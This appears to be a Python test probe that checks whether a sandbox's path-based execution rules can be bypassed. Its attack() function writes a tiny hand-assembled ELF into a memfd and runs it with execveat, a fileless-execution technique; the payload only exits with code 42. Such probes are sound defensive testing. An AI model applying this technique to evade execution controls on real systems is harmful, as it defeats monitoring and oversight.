"""Run a program that is written to memory only, past every rule about paths."""

import ctypes
import os
import struct

MEMFD_CREATE, EXECVEAT, AT_EMPTY_PATH = {"x86_64": 319, "aarch64": 279}[os.uname().machine], 322, 0x1000
# mov edi, 42; mov eax, 60 (exit); syscall
EXIT_42 = bytes.fromhex("bf2a000000b83c0000000f05")


def program():
    """The least that x86-64 Linux runs: one header, one segment, three instructions."""
    base, size = 0x400000, 64 + 56 + len(EXIT_42)
    header = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, base + 120, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    return header + struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, size, size, 4096) + EXIT_42


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    descriptor = libc.syscall(ctypes.c_long(MEMFD_CREATE), b"mine", 0)
    if descriptor < 0:
        return None
    os.write(descriptor, program())
    child = os.fork()
    if child == 0:
        libc.syscall(ctypes.c_long(EXECVEAT), descriptor, b"", (ctypes.c_char_p * 1)(), (ctypes.c_char_p * 1)(), AT_EMPTY_PATH)
        os._exit(1)
    if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 42:
        return "ran a program from memory"
